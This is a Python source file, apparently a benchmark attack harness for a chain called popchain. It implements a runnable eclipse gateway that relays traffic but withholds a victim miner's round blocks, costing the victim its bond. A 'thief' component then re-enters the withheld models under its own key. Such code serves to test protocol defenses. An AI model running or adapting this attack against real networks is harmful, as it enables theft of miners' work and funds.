"""Thief - position: **a funded miner that is also the only peer of the victim miner's node** (an eclipse).

Gateway half: it dials the victim's node (V2) and an ordinary node (H) and relays every frame between them, so
V2 follows the chain and its miner's entries reach the keyholders - but it withholds the blocks V2 originates
(its miner's openings): their object, INV, header and GETDATA never pass. The committee never sees the opening,
the round goes void, the victim forfeits its bond and its model stays unrecorded.

Thief half: in a later round it enters a withheld model - byte for byte - under its own funded key through H's
ordinary API (template, entry, opening, as ``popchain miner run`` does) and is crowned with it if it beats the
champion. With ``--also-opened`` it also re-enters models other keys opened on the honest network (the control:
today ``duplicate-model`` refuses those the keyholders recorded).

It writes JSON lines to ``--out``: ``seen`` (every round block it saw: round, block, miner, model_hash),
``withheld`` and ``steal`` (round, model_hash, from_miner, from_round, status). Run it as its own process::

    python -m benchmarks.attacks.thief --genesis G --victim-node V2=HOST:PORT --upstream H=HOST:PORT \\
        --api http://127.0.0.1:PORT --key-seed HEX --out thief.jsonl
"""
from __future__ import annotations

import argparse
import asyncio
import json
import signal
import sys
import time
from pathlib import Path

from benchmarks.attacks.entrant import ApiEntrant, Attempt
from benchmarks.attacks.protocol import identity, is_round_block
from benchmarks.attacks.racer import parse_endpoint
from benchmarks.attacks.wire_peer import AddressPool, WirePeer
from chain.block import Block, Header
from chain.crypto import Keypair
from chain.errors import DecodeError
from consensus.protocol.genesis import Genesis, load_genesis
from node import wire
from node.tools.client import ApiCallError, NodeClient
from node.wire import InvKind

NOT_FORWARDED = (wire.Hello, wire.Ping, wire.Pong, wire.Reject, wire.GetAddr, wire.Addr)


class Journal:
    def __init__(self, path: Path) -> None:
        self.path = path

    def write(self, kind: str, **fields: object) -> None:
        with self.path.open("a") as f:
            f.write(json.dumps({"kind": kind, "t": time.time(), **fields}) + "\n")


class Gateway:
    """The eclipse relay between the victim's node (``down``) and the network (``up``)."""

    def __init__(self, genesis: Genesis, down: tuple[str, int], up: tuple[str, int], pool: AddressPool,
                 journal: Journal, own_key: bytes) -> None:
        self.genesis, self.down_addr, self.up_addr, self.pool = genesis, down, up, pool
        self.journal, self.own_key = journal, own_key
        self.up_known: set[bytes] = set()
        self.seen: set[bytes] = set()
        self.withheld: dict[bytes, Block] = {}
        self.opened_elsewhere: list[Block] = []     # round blocks other keys opened on the honest network
        self.up: WirePeer | None = None
        self.down: WirePeer | None = None

    def _note(self, block: Block, where: str) -> None:
        h = identity(block)
        if h in self.seen or not is_round_block(block):
            return
        self.seen.add(h)
        hd = block.header
        self.journal.write("seen", where=where, round=hd.round, block=h.hex(), miner=hd.miner.hex(),
                           model_hash=hd.model_hash.hex())
        if where == "up" and hd.miner != self.own_key:
            self.opened_elsewhere.append(block)

    async def from_down(self, _peer: WirePeer, msg: wire.Message) -> None:
        if isinstance(msg, NOT_FORWARDED) or self.up is None:
            return
        if isinstance(msg, wire.Object) and msg.kind == InvKind.BLOCK:
            try:
                block = Block.decode(msg.data)
            except (DecodeError, ValueError):
                return
            h = identity(block)
            if h not in self.up_known and is_round_block(block):
                if h not in self.withheld:
                    self.withheld[h] = block
                    self._note(block, "down")
                    hd = block.header
                    self.journal.write("withheld", round=hd.round, block=h.hex(), miner=hd.miner.hex(),
                                       model_hash=hd.model_hash.hex())
                return
        elif isinstance(msg, wire.Inv):
            items = tuple(i for i in msg.items if not (i[0] == InvKind.BLOCK and i[1] in self.withheld))
            if not items:
                return
            msg = wire.Inv(items)
        elif isinstance(msg, wire.Headers):
            kept = []
            for raw in msg.headers:
                try:
                    if Header.decode(raw).hash in self.withheld:
                        break
                except (DecodeError, ValueError):
                    break
                kept.append(raw)
            msg = wire.Headers(tuple(kept))
        await self.up.send(msg)

    async def from_up(self, peer: WirePeer, msg: wire.Message) -> None:
        if isinstance(msg, NOT_FORWARDED) or self.down is None:
            return
        if isinstance(msg, wire.Object) and msg.kind == InvKind.BLOCK:
            try:
                block = Block.decode(msg.data)
                self.up_known.add(identity(block))
                self._note(block, "up")
            except (DecodeError, ValueError):
                pass
        elif isinstance(msg, wire.Inv):
            self.up_known.update(h for k, h in msg.items if k == InvKind.BLOCK)
        elif isinstance(msg, wire.GetData):
            hidden = tuple(i for i in msg.items if i[0] == InvKind.BLOCK and i[1] in self.withheld)
            if hidden:
                await peer.send(wire.NotFound(hidden))
                rest = tuple(i for i in msg.items if i not in hidden)
                if not rest:
                    return
                msg = wire.GetData(rest)
        await self.down.send(msg)

    async def run(self, stop: asyncio.Event) -> None:
        g = self.genesis
        while not stop.is_set():
            up = WirePeer(*self.up_addr, g.chain_id, g.hash, source_ip=self.pool.take(), on_message=self.from_up,
                          agent="gateway/0.1")
            down: WirePeer | None = None
            try:
                if not await up.connect():
                    await asyncio.sleep(0.5)
                    continue
                assert up.hello is not None
                down = WirePeer(*self.down_addr, g.chain_id, g.hash, source_ip=self.pool.take(),
                                on_message=self.from_down, agent="gateway/0.1", best_height=up.hello.best_height,
                                best_round=up.hello.best_round)
                self.up = up
                if not await down.connect():
                    await asyncio.sleep(0.5)
                    continue
                self.down = down
                waits = {asyncio.create_task(up.closed()), asyncio.create_task(down.closed()),
                         asyncio.create_task(stop.wait())}
                try:
                    await asyncio.wait(waits, return_when=asyncio.FIRST_COMPLETED)
                finally:
                    for t in waits:
                        t.cancel()
            finally:
                self.up = self.down = None
                await up.close()
                if down is not None:
                    await down.close()


class Thief:
    def __init__(self, gateway: Gateway, entrant: ApiEntrant, journal: Journal, also_opened: bool,
                 max_steals: int) -> None:
        self.gateway, self.entrant, self.journal = gateway, entrant, journal
        self.also_opened, self.max_steals = also_opened, max_steals
        self.tried: set[int] = set()
        self.stolen: set[bytes] = set()        # model hashes already re-entered
        self.attempts: list[asyncio.Task[None]] = []

    def pick(self, r: int) -> tuple[Block, str] | None:
        """The model to re-enter in round r: a withheld one first, else (``also_opened``) one another key opened."""
        for block in self.gateway.withheld.values():
            if block.header.round < r and block.header.model_hash not in self.stolen:
                return block, "withheld"
        if self.also_opened:
            for block in reversed(self.gateway.opened_elsewhere):
                if block.header.round < r and block.header.model_hash not in self.stolen:
                    return block, "opened"
        return None

    async def run(self, stop: asyncio.Event) -> None:
        while not stop.is_set():
            try:
                r = await self.entrant.open_round()
            except (ApiCallError, OSError):
                r = 0
            if r and r not in self.tried:
                choice = self.pick(r)
                if choice is not None:
                    self.tried.add(r)
                    block, source = choice
                    self.stolen.add(block.header.model_hash)
                    self.attempts.append(asyncio.create_task(self.steal(r, block, source)))
                    if self.max_steals and len(self.stolen) >= self.max_steals:
                        await asyncio.gather(*self.attempts, return_exceptions=True)
                        stop.set()
            await asyncio.sleep(0.05)

    async def steal(self, r: int, original: Block, source: str) -> None:
        attempt: Attempt | None = None
        try:
            attempt = await self.entrant.enter(original.model)
            if attempt is not None:
                attempt = await self.entrant.open(attempt)
        except (ApiCallError, OSError, TimeoutError) as exc:
            status = f"error:{exc}"
        else:
            status = attempt.status if attempt is not None else "no-template"
        hd = original.header
        self.journal.write("steal", round=attempt.round if attempt else r, source=source,
                           model_hash=hd.model_hash.hex(), from_miner=hd.miner.hex(), from_round=hd.round,
                           from_block=identity(original).hex(),
                           block=attempt.block.hash.hex() if attempt else None, status=status)


async def run(args: argparse.Namespace) -> None:
    genesis = load_genesis(args.genesis.read_bytes())
    key = Keypair.from_seed(bytes.fromhex(args.key_seed))
    journal = Journal(args.out)
    first, _, last = args.addresses.partition("-")
    _, dh, dp = parse_endpoint(args.victim_node)
    _, uh, up = parse_endpoint(args.upstream)
    gateway = Gateway(genesis, (dh, dp), (uh, up), AddressPool(first, last), journal, key.public)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    async with NodeClient(args.api) as client:
        thief = Thief(gateway, ApiEntrant(client, key, genesis), journal, args.also_opened, args.max)
        tasks = [asyncio.create_task(gateway.run(stop)), asyncio.create_task(thief.run(stop))]
        await stop.wait()
        for t in tasks + thief.attempts:
            t.cancel()
        await asyncio.gather(*tasks, *thief.attempts, return_exceptions=True)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m benchmarks.attacks.thief", description=__doc__.split("\n")[0])
    ap.add_argument("--genesis", type=Path, required=True)
    ap.add_argument("--victim-node", required=True, help="NAME=HOST:PORT of the node the gateway eclipses")
    ap.add_argument("--upstream", required=True, help="NAME=HOST:PORT of an honest node to relay to")
    ap.add_argument("--api", required=True, help="the honest node API the thief mines through")
    ap.add_argument("--key-seed", required=True, help="the thief's funded key (32-byte seed, hex)")
    ap.add_argument("--also-opened", action="store_true", help="also re-enter models other keys opened")
    ap.add_argument("--addresses", default="127.0.8.1-127.0.9.254", help="loopback source range FIRST-LAST")
    ap.add_argument("--out", type=Path, required=True)
    ap.add_argument("--max", type=int, default=0, help="stop after this many steal attempts (0: until SIGTERM)")
    asyncio.run(run(ap.parse_args(argv)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
